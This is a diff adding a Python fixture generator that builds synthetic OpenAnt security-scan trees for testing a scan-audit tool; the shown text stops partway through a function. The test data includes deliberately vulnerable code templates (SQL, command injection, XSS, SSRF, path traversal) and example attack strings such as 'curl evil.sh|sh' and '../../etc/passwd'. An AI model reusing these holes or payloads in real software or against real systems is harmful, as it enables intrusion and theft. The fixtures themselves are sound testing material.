@@ -1,0 +1,2179 @@
+#!/usr/bin/env python3
+"""Fixture generator for scanaudit.
+
+Regenerates (deterministically, byte-identical on every run):
+
+  testdata/healthy/...            OpenAnt scan trees where every file is healthy
+  testdata/damaged/...            the same kind of trees, damaged the way real damage happens
+  testdata/outside-target.json    a torn file outside both trees (target of a symlink)
+  testdata/expected/healthy.json  {"findings": []}
+  testdata/expected/damaged.json  every per-file finding the damaged tree must produce
+
+Other modes:
+
+  generate.py bench OUTDIR [--scans 20] [--units 2000]   large realistic tree for benchmarks
+  generate.py bigfile OUT.json [--size-mb 1024]          one big dataset-shaped JSON, streamed
+
+Everything follows /work/shared/spec/openant-layout.md (the "spec"): file shapes and key orders
+(§1), checkpoint naming (§2), how OpenAnt derives each output from checkpoints (§3), temp names
+(§4) and eras (§5).  Python 3 stdlib only.
+"""
+
+import argparse
+import hashlib
+import json
+import os
+import random
+import shutil
+import sys
+import time
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+HEALTHY = HERE / "healthy"
+DAMAGED = HERE / "damaged"
+EXPECTED = HERE / "expected"
+OUTSIDE = HERE / "outside-target.json"
+
+# Where the recorded paths inside reports point (the machine the scans were "made" on).
+OPENANT_HOME = "/home/dev/.openant"
+
+OPUS = "claude-opus-4-6"
+SONNET_FIX = "claude-sonnet-4-20250514"
+SONNET_FORK = "claude-sonnet-4-6"
+
+BOUNDARY = "\n\n// ========== File Boundary ==========\n\n"
+
+# ---------------------------------------------------------------------------------------------
+# Serialization (spec §3.0)
+# ---------------------------------------------------------------------------------------------
+
+
+def py_json(obj, ensure_ascii=True, crlf=False, encoding="utf-8"):
+    """Exactly what OpenAnt's `json.dump(obj, f, indent=2, ensure_ascii=X)` leaves on disk.
+
+    No trailing newline.  `crlf` emulates a text-mode write on Windows.  `encoding` lets a
+    Windows-era (pre-3cdca87) scan write with the locale code page (cp1252)."""
+    s = json.dumps(obj, indent=2, ensure_ascii=ensure_ascii)
+    if crlf:
+        s = s.replace("\n", "\r\n")
+    return s.encode(encoding)
+
+
+def go_json(obj):
+    """Go `json.MarshalIndent(v, "", "  ")` + "\\n": raw UTF-8, `< > &` and U+2028/9 escaped."""
+    s = json.dumps(obj, indent=2, ensure_ascii=False)
+    for a, b in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"),
+                 ("\u2028", "\\u2028"), ("\u2029", "\\u2029")):
+        s = s.replace(a, b)
+    return (s + "\n").encode("utf-8")
+
+
+def text(s, crlf=False):
+    if crlf:
+        s = s.replace("\n", "\r\n")
+    return s.encode("utf-8")
+
+
+def safe_filename(unit_id):
+    """utilities/safe_filename.py (spec §2.2)."""
+    safe = (unit_id.replace("/", "__").replace("\\", "__").replace(":", "_").replace(" ", "_"))
+    max_len = 255 - 5 - 17
+    if len(safe) > max_len:
+        h = hashlib.sha256(unit_id.encode("utf-8")).hexdigest()[:16]
+        safe = safe[:max_len] + "_" + h
+    return safe
+
+
+def utc_z(t, frac=0):
+    """StepReport / _summary timestamp: `isoformat().replace('+00:00','Z')`."""
+    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
+    return s + (".%06d" % frac if frac else "") + "Z"
+
+
+def utc_iso(t, frac=0):
+    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
+    return s + (".%06d" % frac if frac else "") + "+00:00"
+
+
+def local_naive(t, frac=0):
+    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
+    return s + (".%06d" % frac if frac else "")
+
+
+def rfc3339(t):
+    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))
+
+
+def T(s):
+    """Fixed epoch seconds from 'YYYY-mm-ddTHH:MM:SS' (UTC)."""
+    import calendar
+    return calendar.timegm(time.strptime(s, "%Y-%m-%dT%H:%M:%S"))
+
+
+# ---------------------------------------------------------------------------------------------
+# Code snippets (realistic multi-line code; some non-ASCII)
+# ---------------------------------------------------------------------------------------------
+
+PY_BODIES = {
+    "sql": '''def {name}({args}):
+    """Fetch a row by id."""
+    conn = get_connection()
+    cursor = conn.cursor()
+    query = "SELECT * FROM users WHERE id = '%s'" % {arg0}
+    cursor.execute(query)
+    row = cursor.fetchone()
+    if row is None:
+        raise NotFound("user %s not found" % {arg0})
+    return row''',
+    "path": '''def {name}({args}):
+    base = current_app.config["UPLOAD_ROOT"]
+    target = os.path.join(base, {arg0})
+    if ".." in {arg0}.split("/")[0]:
+        abort(400)
+    return send_file(target, as_attachment=True)''',
+    "cmd": '''def {name}({args}):
+    out = f"/tmp/export-{{{arg0}}}.csv"
+    subprocess.run("pg_dump --table=%s > %s" % ({arg0}, out), shell=True, check=True)
+    with open(out, "rb") as fh:
+        return Response(fh.read(), mimetype="text/csv")''',
+    "xss": '''def {name}({args}):
+    # Affiche le profil — « résumé » de l’utilisateur 🚀
+    bio = request.args.get("bio", "")
+    html = "<div class='bio'>" + {arg0}.display_name + " · " + bio + "</div>"
+    return Markup(html)''',
+    "safe": '''def {name}({args}):
+    if not {arg0}:
+        return None
+    value = str({arg0}).strip()
+    return value.lower()''',
+    "protected": '''def {name}({args}):
+    token = {arg0}
+    try:
+        payload = jwt.decode(token, SECRET_KEY, algorithms=["HS256"])
+    except jwt.InvalidTokenError:
+        raise Unauthorized("invalid token")
+    if payload.get("exp", 0) < time.time():
+        raise Unauthorized("expired")
+    return payload["sub"]''',
+    "ssrf": '''def {name}({args}):
+    url = request.args["url"]
+    host = urlparse(url).hostname or ""
+    if host in BLOCKED_HOSTS:
+        abort(403)
+    resp = requests.get(url, timeout=5)
+    return jsonify(status=resp.status_code, body=resp.text[:500])''',
+    "upload": '''def {name}({args}):
+    f = request.files["avatar"]
+    dest = os.path.join(AVATAR_DIR, f.filename)
+    f.save(dest)
+    return {{"path": dest}}''',
+    "i18n": '''def {name}({args}):
+    """Übersetzt die Elemente: « Grüße », « café », « naïve »."""
+    table = {{"grüße": "salutations", "café": "café", "naïve": "naïf"}}
+    return [table.get(e, e) for e in {arg0}]''',
+    "inconclusive": '''def {name}({args}):
+    cfg = yaml.load(open(CONFIG_PATH), Loader=CustomLoader)
+    plugin = cfg.get("plugin")
+    if plugin:
+        return importlib.import_module(plugin).run({arg0})
+    return None''',
+    "misc": '''def {name}({args}):
+    result = []
+    for item in {arg0}:
+        if item is None:
+            continue
+        result.append(normalize(item))
+    logger.debug("processed %d items", len(result))
+    return result''',
+}
+
+JS_BODIES = {
+    "sql": '''async function {name}(req, res) {{
+  const id = req.params.id;
+  const rows = await db.query("SELECT * FROM orders WHERE id = " + id);
+  if (!rows.length) return res.status(404).json({{ error: "not found" }});
+  res.json(rows[0]);
+}}''',
+    "xss": '''function {name}(req, res) {{
+  const q = req.query.q || "";
+  // Résultats de recherche — «{{q}}» ✨
+  res.send(`<h1>Results for ${{q}}</h1><ul>${{render(q)}}</ul>`);
+}}''',
+    "proto": '''function {name}(target, source) {{
+  for (const key of Object.keys(source)) {{
+    if (typeof source[key] === "object") {{
+      target[key] = {name}(target[key] || {{}}, source[key]);
+    }} else {{
+      target[key] = source[key];
+    }}
+  }}
+  return target;
+}}''',
+    "safe": '''function {name}(req, res) {{
+  res.json({{ status: "ok", uptime: process.uptime() }});
+}}''',
+    "protected": '''function {name}(req, res, next) {{
+  const token = req.get("Authorization") || "";
+  if (!verifyJwt(token.replace(/^Bearer /, ""))) {{
+    return res.status(401).end();
+  }}
+  next();
+}}''',
+    "misc": '''function {name}(items) {{
+  return items
+    .filter(Boolean)
+    .map((x) => ({{ ...x, price: Number(x.price).toFixed(2) }}));
+}}''',
+}
+
+GO_BODIES = {
+    "cmd": '''func {name}(w http.ResponseWriter, r *http.Request) {{
+	name := r.URL.Query().Get("name")
+	out, err := exec.Command("sh", "-c", "convert "+name+" out.png").CombinedOutput()
+	if err != nil {{
+		http.Error(w, string(out), 500)
+		return
+	}}
+	w.Write(out)
+}}''',
+    "safe": '''func {name}(s string) string {{
+	return strings.TrimSpace(strings.ToLower(s))
+}}''',
+    "misc": '''func {name}(ctx context.Context, id int64) (*Item, error) {{
+	var it Item
+	err := db.QueryRowContext(ctx, "SELECT id, name FROM items WHERE id = $1", id).Scan(&it.ID, &it.Name)
+	return &it, err
+}}''',
+}
+
+CWE = {
+    "sql": (89, "SQL Injection"),
+    "path": (22, "Path Traversal"),
+    "cmd": (78, "OS Command Injection"),
+    "xss": (79, "Cross-site Scripting"),
+    "ssrf": (918, "Server-Side Request Forgery"),
+    "upload": (434, "Unrestricted Upload of File with Dangerous Type"),
+    "proto": (1321, "Prototype Pollution"),
+}
+
+ATTACK = {
+    "sql": "Attacker sends id=1' OR '1'='1 to read every user row",
+    "path": "GET /files?name=../../etc/passwd escapes UPLOAD_ROOT",
+    "cmd": "table=users;curl evil.sh|sh runs arbitrary commands",
+    "xss": "?bio=<script>alert(document.cookie)</script> is rendered unescaped",
+    "ssrf": "url=http://169.254.169.254/latest/meta-data/ bypasses the host blocklist",
+    "upload": "Upload shell.php.jpg with a crafted filename to write outside AVATAR_DIR",
+    "proto": "POST {\"__proto__\": {\"isAdmin\": true}} pollutes Object.prototype",
+}
+
+
+def render_code(lang, kind, name, args="value", big=0):
+    bodies = {"python": PY_BODIES, "javascript": JS_BODIES, "go": GO_BODIES}[lang]
+    body = bodies.get(kind) or bodies["misc"]
+    arg0 = args.split(",")[0].strip() or "value"
+    code = body.format(name=name, args=args, arg0=arg0)
+    if big:
+        # Pad with realistic lines until the code is `big` characters long.
+        lines = [code]
+        i = 0
+        while sum(len(x) + 1 for x in lines) < big:
+            i += 1
+            if lang == "python":
+                lines.append("    # step %d: validate field_%d against the schema registry (v%d)" % (i, i, i % 7))
+            else:
+                lines.append("  // step %d: validate field_%d against the schema registry (v%d)" % (i, i, i % 7))
+        code = "\n".join(lines)
+    return code
+
+
+# ---------------------------------------------------------------------------------------------
+# Unit plans
+# ---------------------------------------------------------------------------------------------
+
+
+class U:
+    """One unit's plan: what the parser found and what every LLM step answered."""
+
+    def __init__(self, uid, kind="misc", finding="safe", unit_type="function", cls=None,
+                 enh="neutral", enh_error=None, verify=None, dyn=None, route=None,
+                 diff_selected=None, big=0, error=None, includes=(), entry=False,
+                 exploit_path=None, lang="python", args="value"):
+        self.id = uid
+        self.kind = kind
+        self.finding = finding          # stage-1 finding (or "error")
+        self.unit_type = unit_type
+        self.cls = cls
+        self.enh = enh                  # enhance security_classification
+        self.enh_error = enh_error      # None | dict error | "string" (legacy)
+        self.verify = verify            # None | (agree, correct_finding)
+        self.dyn = dyn                  # dynamic status for its finding
+        self.route = route              # JS route dict
+        self.diff_selected = diff_selected
+        self.big = big
+        self.error = error              # None | "exception" | "parse"
+        self.includes = list(includes)  # ids pulled in by the enhancer
+        self.entry = entry
+        self.exploit_path = exploit_path
+        self.lang = lang
+        self.args = args
+        path, _, func = uid.rpartition(":")
+        self.file = path
+        self.func = func
+        self.fname = func.split(".")[-1]
+
+
+LONG_ID = ("app/plugins/vendor/acme_enterprise_integration_suite/connectors/salesforce/v2/handlers/"
+           "bulk_operations/synchronization/incremental/strategies/timestamp_based/implementation/"
+           "core.py:IncrementalTimestampSynchronizationStrategy.compute_next_watermark_for_partition")
+assert len(safe_filename(LONG_ID)) == 250 and len(LONG_ID.replace("/", "__").replace(":", "_")) > 233
+
+
+def acme_units(variant="a"):
+    """acme-webapp (python, fix branch).  Mix of every verdict, tricky ids, one analyze error,
+    one enhance error, a caller/callee pair that build-output dedups, non-ASCII code."""
+    us = [
+        U("app/routes/users.py:get_user", "sql", "vulnerable", enh="exploitable", entry=True,
+          includes=["app/db/queries.py:run_query"], verify=(True, "vulnerable"), dyn="CONFIRMED",
+          args="user_id", exploit_path={"entry_point": "GET /users/<id>",
+                                        "data_flow": ["request.view_args['id']", "get_user(user_id)", "cursor.execute(query)"],
+                                        "sink_reached": True, "attacker_control_at_sink": "full", "path_broken_at": None}),
+        U("app/db/queries.py:run_query", "sql", "vulnerable", enh="vulnerable_internal",
+          verify=(True, "vulnerable"), args="sql"),
+        U("app/routes/files.py:download_file", "path", "bypassable", enh="exploitable", entry=True,
+          verify=(False, "vulnerable"), dyn="CONFIRMED", args="name"),
+        U("app/routes/admin.py:AdminView.export_csv", "cmd", "vulnerable", unit_type="method", cls="AdminView",
+          enh="exploitable", verify=(False, "safe"), args="table"),
+        U("app/auth/session.py:SessionManager.validate_token", "protected", "protected", unit_type="method",
+          cls="SessionManager", enh="security_control", args="token"),
+        U("app/utils/crypto.py:hash_password", "safe", "safe", enh="security_control", args="password"),
+        U("app/templates/render.py:render_profile", "xss", "vulnerable", enh="exploitable", entry=True,
+          verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", args="user",
+          includes=["app/models/user.py:User.to_dict"]),
+        U("app/i18n/übersetzung.py:traduire_éléments", "i18n", "safe", args="éléments"),
+        U("src/legacy code/old utils.py:parse_row", "inconclusive", "inconclusive", args="row"),
+        U("app/api/webhooks.py:handle_webhook", "misc", "error", error="exception", enh="exploitable", entry=True,
+          args="payload"),
+        U(LONG_ID, "misc", "safe", unit_type="method", cls="IncrementalTimestampSynchronizationStrategy",
+          args="self, partition"),
+        U("app/routes/upload.py:upload_avatar", "upload", "vulnerable", enh="exploitable", entry=True,
+          verify=(True, "vulnerable"), dyn="BLOCKED", args="user_id"),
+        U("app/services/mailer.py:send_reset_email", "protected", "protected", enh="security_control", args="token"),
+        U("app/models/user.py:User.to_dict", "safe", "safe", unit_type="method", cls="User", args="self"),
+        U("app/routes/search.py:search", "ssrf", "bypassable", enh="exploitable", entry=True,
+          verify=(True, "bypassable"), dyn="INCONCLUSIVE", args="query"),
+        U("app/config.py:load_settings", "inconclusive", "inconclusive", args="env"),
+        U("app/routes/health.py:healthcheck", "safe", "safe", entry=True, args=""),
+        U("app/services/cache.py:CacheClient.get", "safe", "safe", unit_type="method", cls="CacheClient",
+          enh_error={"type": "rate_limit", "exception_class": "RateLimitError",
+                     "message": "Error code: 429 - {'type': 'error', 'error': {'type': 'rate_limit_error', 'message': 'Number of request tokens has exceeded your per-minute rate limit'}}",
+                     "status_code": 429, "request_id": "req_011CVh7x2mQ9", "retry_after": 30.0},
+          args="self, key"),
+    ]
+    if variant == "b":
+        # The second scan (another commit): a fresh, not-restored run.  A parse-failure error,
+        # an ERROR dynamic test, a Stage-1 consistency update and one more unit.
+        us.append(U("app/routes/users.py:create_user", "misc", "safe", enh="exploitable", entry=True, args="page"))
+        us.append(U("app/routes/reports.py:build_report", "misc", "error", error="parse", args="report_id"))
+        for u in us:
+            if u.id == "app/routes/upload.py:upload_avatar":
+                u.dyn = "ERROR"
+    return us
+
+
+def storefront_units():
+    """widgets/storefront (javascript, incremental diff scan)."""
+    def R(method, path, handler):
+        return {"method": method, "path": path, "handler": handler, "middleware": ["authenticate"] if path.startswith("/api/admin") else []}
+    us = [
+        U("src/routes/orders.js:getOrder", "sql", "vulnerable", unit_type="route_handler", lang="javascript",
+          enh="exploitable", route=R("GET", "/api/orders/:id", "getOrder"), diff_selected=True, entry=True),
+        U("src/routes/search.js:searchProducts", "xss", "vulnerable", unit_type="route_handler", lang="javascript",
+          enh="exploitable", route=R("GET", "/search", "searchProducts"), diff_selected=True, entry=True),
+        U("src/lib/merge.js:deepMerge", "proto", "bypassable", lang="javascript", enh="vulnerable_internal",
+          diff_selected=True),
+        U("src/routes/admin.js:requireAdmin", "protected", "protected", unit_type="route_middleware",
+          lang="javascript", enh="security_control", route=R("POST", "/api/admin/reindex", "requireAdmin"),
+          diff_selected=True),
+        U("src/routes/health.js:health", "safe", "safe", unit_type="route_handler", lang="javascript",
+          route=R("GET", "/healthz", "health"), diff_selected=True),
+        U("src/lib/format.js:formatPrices", "misc", "inconclusive", lang="javascript", diff_selected=True),
+        U("src/lib/cart.js:cartTotal", "misc", "safe", lang="javascript", diff_selected=False),
+        U("src/routes/cart.js:addToCart", "misc", "safe", unit_type="route_handler", lang="javascript",
+          route=R("POST", "/api/cart", "addToCart"), diff_selected=False),
+        U("src/lib/i18n.js:traduire", "misc", "safe", lang="javascript", diff_selected=False),
+        U("src/routes/users.js:updateProfile", "misc", "safe", unit_type="route_handler", lang="javascript",
+          route=R("PUT", "/api/users/:id", "updateProfile"), diff_selected=False),
+    ]
+    return us
+
+
+def legacy_units():
+    return [
+        U("tool/cli.py:main", "cmd", "vulnerable", enh="exploitable", entry=True, verify=(True, "vulnerable"),
+          dyn="CONFIRMED", args="argv"),
+        U("tool/fetch.py:fetch_remote", "ssrf", "bypassable", enh="exploitable", verify=(False, "vulnerable"),
+          args="url"),
+        U("tool/parse.py:parse_config", "inconclusive", "inconclusive", args="path"),
+        U("tool/util.py:slugify", "safe", "safe", args="name"),
+        U("tool/auth.py:check_signature", "protected", "protected", enh="security_control", args="sig"),
+        U("tool/report.py:render_résumé", "xss", "vulnerable", enh="exploitable", verify=(True, "vulnerable"),
+          dyn="NOT_REPRODUCED", args="data"),
+        U("tool/cache.py:warm_cache", "misc", "safe", enh_error="Agent error: Connection error.", args="keys"),
+    ]
+
+
+def fork_units():
+    return [
+        U("svc/api/handlers.py:create_invoice", "sql", "vulnerable", enh="exploitable", entry=True,
+          verify=(True, "vulnerable"), dyn="CONFIRMED", args="payload"),
+        U("svc/api/handlers.py:delete_invoice", "misc", "insufficient_context", enh="exploitable", entry=True,
+          args="invoice_id"),
+        U("svc/storage/blob.py:BlobStore.read", "path", "bypassable", unit_type="method", cls="BlobStore",
+          enh="vulnerable_internal", verify=(False, "protected"), args="self, key"),
+        U("svc/core/money.py:round_cents", "safe", "safe", args="amount"),
+        U("svc/auth/tokens.py:verify_token", "protected", "protected", enh="security_control", args="token"),
+        U("svc/core/naïve_dates.py:parse_date", "i18n", "inconclusive", args="raw"),
+        U("svc/api/export.py:export_report", "cmd", "vulnerable", enh="exploitable", entry=True,
+          verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", args="fmt"),
+        U("svc/api/webhooks.py:receive", "misc", "error", error="exception", enh="exploitable", args="body"),
+    ]
+
+
+def small_units(lang="python", prefix="pkg", n=6, with_vuln=True, big_unit=False, extra_nonascii=True):
+    """Small scans for the ad-hoc/nogit/damaged trees."""
+    ext = {"python": "py", "javascript": "js", "go": "go"}[lang]
+    us = []
+    if with_vuln:
+        us.append(U("%s/handlers.%s:run_command" % (prefix, ext), "cmd", "vulnerable", enh="exploitable",
+                    entry=True, verify=(True, "vulnerable"), dyn="CONFIRMED", lang=lang, args="name"))
+        us.append(U("%s/views.%s:show_page" % (prefix, ext), "xss", "vulnerable",
+                    enh="exploitable", entry=True, verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", lang=lang,
+                    args="page"))
+    us.append(U("%s/util.%s:normalize" % (prefix, ext), "safe", "safe", lang=lang))
+    us.append(U("%s/auth.%s:check_token" % (prefix, ext), "protected", "protected", enh="security_control",
+                lang=lang, args="token"))
+    if extra_nonascii:
+        us.append(U("%s/i18n/café.%s:grüße" % (prefix, ext), "i18n" if lang == "python" else "misc", "safe",
+                    lang=lang, args="names"))
+    us.append(U("%s/config.%s:load" % (prefix, ext), "inconclusive", "inconclusive", lang=lang, args="path"))
+    if big_unit:
+        us.append(U("%s/engine.%s:Engine.process_batch" % (prefix, ext), "misc", "safe", unit_type="method",
+                    cls="Engine", lang=lang, big=12000, args="self, batch"))
+    i = 0
+    while len(us) < n:
+        i += 1
+        us.append(U("%s/extra/mod%02d.%s:helper_%02d" % (prefix, i, ext, i), "misc", "safe", lang=lang, args="items"))
+    return us
+
+
+def bench_units(rng, n, idx):
+    kinds = ["sql", "path", "cmd", "xss", "ssrf", "upload", "safe", "protected", "inconclusive", "misc"]
+    findings = {"sql": "vulnerable", "path": "bypassable", "cmd": "vulnerable", "xss": "vulnerable",
+                "ssrf": "bypassable", "upload": "vulnerable", "safe": "safe", "protected": "protected",
+                "inconclusive": "inconclusive", "misc": "safe"}
+    us = []
+    for i in range(n):
+        k = rng.choice(kinds) if rng.random() < 0.25 else rng.choice(["safe", "misc", "protected", "inconclusive"])
+        f = findings[k]
+        mod = "svc%02d/pkg%03d/module_%04d.py" % (idx, i // 40, i)
+        uid = "%s:handler_%04d" % (mod, i)
+        ver = None
+        dyn = None
+        if f in ("vulnerable", "bypassable"):
+            ver = (True, f) if rng.random() < 0.7 else (False, rng.choice(["safe", "vulnerable"]))
+            dyn = rng.choice(["CONFIRMED", "NOT_REPRODUCED", "BLOCKED", "INCONCLUSIVE"])
+        us.append(U(uid, k, f, enh=rng.choice(["neutral", "exploitable", "security_control"]), verify=ver,
+                    dyn=dyn, big=rng.randint(1500, 5000), args="request"))
+    return us
+
+
+# ---------------------------------------------------------------------------------------------
+# Scan configuration
+# ---------------------------------------------------------------------------------------------
+
+
+class Scan:
+    def __init__(self, name, units, lang="python", era="fix", seed=1, start="2026-05-14T09:00:00",
+                 verify=True, dynamic=True, context=True, report=True, restored=True,
+                 out_dir=None, repo_path=None, repo_name=None, repo_url="", commit=None,
+                 diff=None, model="opus", crlf=False, encoding="utf-8", consistency_update=False,
+                 level="reachable", enhance=True):
+        self.name = name
+        self.units = units
+        self.lang = lang
+        self.era = era               # "fix" | "legacy" | "fork"
+        self.rng = random.Random(seed)
+        self.t0 = T(start)
+        self.verify = verify
+        self.dynamic = dynamic
+        self.context = context
+        self.report = report
+        self.restored = restored     # outputs rebuilt by a resumed run (every unit restored)
+        self.out_dir = out_dir       # absolute path recorded in reports
+        self.repo_path = repo_path
+        self.repo_name = repo_name
+        self.repo_url = repo_url
+        self.commit = commit
+        self.diff = diff             # (manifest dict, stats dict) or None
+        self.model = model
+        self.crlf = crlf
+        self.encoding = encoding
+        self.consistency_update = consistency_update
+        self.level = level
+        self.enhance = enhance
+        self.files = {}              # relative path -> bytes
+
+    # -- helpers --
+    def p(self, rel):
+        return self.out_dir + "/" + rel
+
+    def put(self, rel, data):
+        self.files[rel] = data
+
+    def pj(self, rel, obj, ensure_ascii=True):
+        self.put(rel, py_json(obj, ensure_ascii=ensure_ascii, crlf=self.crlf,
+                              encoding="utf-8" if ensure_ascii else self.encoding))
+
+    def money(self, tin, tout):
+        if self.model == "opus":
+            return round(tin * 15e-6 + tout * 75e-6, 6)
+        return round(tin * 3e-6 + tout * 15e-6, 6)
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: parse outputs
+# ---------------------------------------------------------------------------------------------
+
+
+def unit_base_code(sc, u):
+    return render_code(u.lang, u.kind, u.fname, u.args, big=u.big)
+
+
+def build_parse(sc):
+    """dataset.json, analyzer_output.json, call_graph.json (spec §1.4.5)."""
+    legacy = sc.era == "legacy"
+    ids = [u.id for u in sc.units]
+    by_id = {u.id: u for u in sc.units}
+    # call graph: includes are callees; the first includer is the only caller
+    calls = {i: [] for i in ids}
+    callers = {}
+    for u in sc.units:
+        for c in u.includes:
+            if c in by_id:
+                calls[u.id].append(c)
+                callers.setdefault(c, []).append(u.id)
+    # a callee with several callers (never deduped)
+    util = [u.id for u in sc.units if u.kind in ("safe",) and not u.includes]
+    if len(util) >= 1 and len(ids) >= 4:
+        tgt = util[0]
+        for c in [x for x in ids if x != tgt][:2]:
+            if tgt not in calls[c]:
+                calls[c].append(tgt)
+                callers.setdefault(tgt, []).append(c)
+    units = []
+    by_type = {}
+    for u in sc.units:
+        code = unit_base_code(sc, u)
+        start = 10 + (sum(map(ord, u.id)) % 300)
+        end = start + code.count("\n")
+        po = {
+            "file_path": u.file,
+            "start_line": start,
+            "end_line": end,
+            "function_name": u.fname,
+            "class_name": u.cls,
+        }
+        po["enhanced" if legacy else "deps_inlined"] = False
+        po["files_included"] = [u.file]
+        po["original_length"] = len(code)
+        po["enhanced_length"] = len(code)
+        unit = {
+            "id": u.id,
+            "unit_type": u.unit_type,
+            "code": {
+                "primary_code": code,
+                "primary_origin": po,
+                "dependencies": [],
+                "dependency_metadata": {
+                    "depth": 3,
+                    "total_upstream": len(calls[u.id]),
+                    "total_downstream": len(callers.get(u.id, [])),
+                    "direct_calls": len(calls[u.id]),
+                    "direct_callers": len(callers.get(u.id, [])),
+                },
+            },
+        }
+        if u.lang == "javascript":
+            unit["route"] = dict(u.route) if u.route else None
+            if u.route:
+                unit["is_entry_point"] = True
+                unit["http_method"] = u.route["method"]
+                unit["http_path"] = u.route["path"]
+                unit["callback_index"] = 0
+        unit["ground_truth"] = {"status": "UNKNOWN", "vulnerability_types": [], "issues": [],
+                                "annotation_source": None, "annotation_key": None, "notes": None}
+        if u.lang == "python":
+            unit["metadata"] = {"decorators": ["app.route"] if u.entry else [], "is_async": False,
+                                "parameters": [a.strip() for a in u.args.split(",") if a.strip()],
+                                "docstring": None, "generator": "python_unit_generator.py",
+                                "direct_calls": calls[u.id], "direct_callers": callers.get(u.id, [])}
+        else:
+            unit["metadata"] = {"exported": True, "generator": "%s_unit_generator" % u.lang,
+                                "direct_calls": calls[u.id], "direct_callers": callers.get(u.id, [])}
+        if sc.level == "reachable" and not legacy:
+            unit["reachable"] = True
+            ep = u.entry or bool(u.route)
+            if u.lang != "javascript" or "is_entry_point" not in unit:
+                unit["is_entry_point"] = ep
+            if ep:
+                unit["entry_point_reason"] = "HTTP route decorator" if u.lang == "python" else "Express route registration"
+        if u.diff_selected is not None:
+            unit["diff_selected"] = u.diff_selected
+        units.append(unit)
+        by_type[u.unit_type] = by_type.get(u.unit_type, 0) + 1
+    n = len(units)
+    if u.lang == "javascript" or sc.lang == "javascript":
+        stats = {"totalUnits": n + 3, "byType": by_type, "unitsWithUpstream": sum(1 for x in calls.values() if x),
+                 "unitsWithDownstream": len(callers), "callGraph": {"edges": sum(len(x) for x in calls.values())}}
+    else:
+        stats = {"total_units": n + (3 if sc.level == "reachable" and not legacy else 0), "by_type": by_type,
+                 "units_with_upstream": sum(1 for x in calls.values() if x),
+                 "units_with_downstream": len(callers), "units_enhanced": 0,
+                 "avg_upstream": round(sum(len(x) for x in calls.values()) / n, 2),
+                 "avg_downstream": round(sum(len(x) for x in callers.values()) / n, 2)}
+    meta = {"generator": "python_unit_generator.py" if sc.lang == "python" else "%s_unit_generator" % sc.lang,
+            "generated_at": local_naive(sc.t0 + 3, 412803), "dependency_depth": 3}
+    if sc.level == "reachable" and not legacy:
+        # The parser statistics are computed before the reachability filter (3 units dropped).
+        meta["reachability_filter"] = {"original_units": n + 3,
+                                       "entry_points": sum(1 for u in sc.units if u.entry or u.route),
+                                       "reachable_units": n, "filtered_out": 3,
+                                       "reduction_percentage": round((1 - n / (n + 3)) * 100, 1)}
+    name = os.path.basename(sc.repo_path)
+    dataset = {"name": name, "repository": sc.repo_path, "units": units, "statistics": stats, "metadata": meta}
+    funcs = {}
+    for u, unit in zip(sc.units, units):
+        f = {"name": u.fname, "code": unit["code"]["primary_code"], "isExported": True,
+             "unitType": u.unit_type, "startLine": unit["code"]["primary_origin"]["start_line"],
+             "endLine": unit["code"]["primary_origin"]["end_line"]}
+        if u.cls:
+            f["className"] = u.cls
+        funcs[u.id] = f
+    analyzer_output = {"functions": funcs}
+    rcg = {k: v for k, v in callers.items()}
+    cg_funcs = {}
+    for u, unit in zip(sc.units, units):
+        cg_funcs[u.id] = {"name": u.fname, "file_path": u.file, "class_name": u.cls, "unit_type": u.unit_type,
+                          "start_line": unit["code"]["primary_origin"]["start_line"],
+                          "end_line": unit["code"]["primary_origin"]["end_line"]}
+    edges = sum(len(v) for v in calls.values())
+    call_graph = {"repository": sc.repo_path, "functions": cg_funcs, "classes": {}, "imports": {},
+                  "call_graph": calls, "reverse_call_graph": rcg,
+                  "statistics": {"total_edges": edges, "avg_out_degree": round(edges / n, 2),
+                                 "max_out_degree": max(len(v) for v in calls.values()),
+                                 "isolated_functions": sum(1 for i in ids if not calls[i] and i not in callers)}}
+    return dataset, analyzer_output, call_graph
+
+
+def build_app_context(sc):
+    return {
+        "application_type": "web_app",
+        "purpose": "Customer-facing web application for %s: accounts, files and search" % sc.repo_name,
+        "intended_behaviors": ["Users download their own uploaded files", "Admins export tables as CSV",
+                               "Profiles render user-supplied bios (sanitised « résumé » field)"],
+        "trust_boundaries": {"http": "All request parameters are attacker-controlled",
+                             "database": "Trusted internal PostgreSQL"},
+        "security_model": "Session cookies + JWT for API; admin routes require the admin role",
+        "not_a_vulnerability": ["Debug endpoints only bound to localhost"],
+        "requires_remote_trigger": True,
+        "confidence": 0.85,
+        "evidence": ["README.md mentions Flask", "app/routes/*.py register HTTP routes"],
+        "source": "llm",
+    }
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: enhance (spec §1.4.6, §2.3, §3.1)
+# ---------------------------------------------------------------------------------------------
+
+
+def enhance_working(sc, dataset):
+    units = dataset["units"]
+    if any("diff_selected" in x for x in units):
+        return [x for x in units if x.get("diff_selected")]
+    return list(units)
+
+
+def build_enhance(sc, dataset):
+    """Returns (dataset_enhanced, checkpoints {filename: obj} in unit order, summary, step summary)."""
+    legacy = sc.era == "legacy"
+    enh = json.loads(json.dumps(dataset))  # deep copy, same key order
+    by_id = {u.id: u for u in sc.units}
+    all_code = {x["id"]: x["code"]["primary_code"] for x in dataset["units"]}
+    cps = {}
+    work = enhance_working(sc, enh)
+    sum_in = sum_out = 0
+    sum_cost = 0.0
+    errors = 0
+    breakdown = {}
+    for x in work:
+        u = by_id[x["id"]]
+        tin = sc.rng.randint(8000, 60000)
+        tout = sc.rng.randint(600, 4000)
+        cost = sc.money(tin, tout)
+        if u.enh_error is not None:
+            if isinstance(u.enh_error, str):
+                ac = {"error": u.enh_error, "security_classification": "neutral", "confidence": 0.0}
+            else:
+                ac = {"error": dict(u.enh_error), "security_classification": "neutral", "confidence": 0.0}
+            tin = tout = 0
+            cost = 0.0
+        else:
+            incs = [i for i in u.includes if i in all_code]
+            if incs:
+                code = x["code"]
+                pc = code["primary_code"]
